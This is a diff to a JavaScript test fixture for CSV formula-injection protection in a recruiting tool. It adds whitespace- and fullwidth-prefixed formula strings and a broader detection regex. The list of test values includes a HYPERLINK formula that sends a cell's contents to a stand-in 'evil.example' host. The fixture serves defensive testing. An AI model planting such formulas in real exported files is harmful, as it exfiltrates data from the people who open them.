@@ -25,6 +25,20 @@ export const NASTY = [
   '\n=1+4',
   "'=already quoted",
   "''+twice",
+  ' =1+1',
+  '   @SUM(A1)',
+  '\u00a0-1',
+  '\u3000+1',
+  '＝1+1',
+  '＋1',
+  '－2+3',
+  '＠SUM(A1)',
+  ' ＝1+1',
+  '+1',
+  "' =1+1",
+  '\tplain text after a tab',
+  '\r\nafter a line break',
+  'multi-line\r\nnote\n\n with a blank line and a trailing break\n',
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   'Plain, with "quotes" and commas',
   'Zoë Ørsted 日本語 🙂',
@@ -33,6 +47,12 @@ export const NASTY = [
 
 /** Single-line fields refuse control characters: the title gets the value without them. */
 export const titleOf = (value) => value.replace(/[\t\r\n]+/g, ' ').trim();
+
+/** The formula guard's rule (core/include/runnerup/csv.hpp): blanks, then a formula sign. */
+const BLANKS = '[ \\u000b\\f\\u0085\\u00a0\\u1680\\u2000-\\u200b\\u2028\\u2029\\u202f\\u205f\\u3000\\ufeff]*';
+const LEADS = '[=+\\-@\\t\\r\\n＝＋－＠]';
+export const RUNNABLE = new RegExp(`^${BLANKS}${LEADS}`, 'u');
+const LOOKS_GUARDED = new RegExp(`^'*${BLANKS}${LEADS}`, 'u');
 
 /** One runner-up per nasty value: in the reason note (whole) and the title (one line). */
 export async function nastyPool() {
@@ -43,7 +63,11 @@ export async function nastyPool() {
     await pool.record({ type: 'saveCandidate', candidate: { id, name: `Person ${i} ${titleOf(value)}`, title: titleOf(value), emails: [`p${i}@example.com`], tags: ['=tag'] } });
     await pool.record({
       type: 'recordOutcome',
-      outcome: { candidateId: id, requisitionId: 'r-1', stage: 'final', outcome: 'runner_up', rank: i + 1, reason: { code: 'other', note: value }, futureFit: 'strong', note: value },
+      outcome: {
+        candidateId: id, requisitionId: 'r-1', stage: 'final', outcome: 'runner_up', rank: i + 1, reason: { code: 'other', note: value },
+        futureFit: 'strong', note: value, scores: [{ by: titleOf(value), score: 'mixed' }, { by: 'Panel', score: 'yes' }], skillGaps: [titleOf(value), 'go'],
+      },
+      flags: { openToContract: true, futureRoles: { families: [titleOf(value)], departments: ['Platform'] } },
       followUp: { due: `2027-0${(i % 9) + 1}-15`, note: value },
     });
   }
@@ -52,8 +76,11 @@ export async function nastyPool() {
 
 /** What a cell must look like after export: formula-looking text gets one leading quote. */
 export function neutralised(value) {
-  return /^'*[=+\-@\t\r\n]/.test(value) ? `'${value}` : value;
+  return LOOKS_GUARDED.test(value) ? `'${value}` : value;
 }
+
+/** The native CLI (build/native), for what only it does. */
+export const CLI = fileURLToPath(new URL('../../build/native/cli/runnerup', import.meta.url));
 
 export function tempDir() {
   return mkdtempSync(join(tmpdir(), 'runnerup-formats-'));
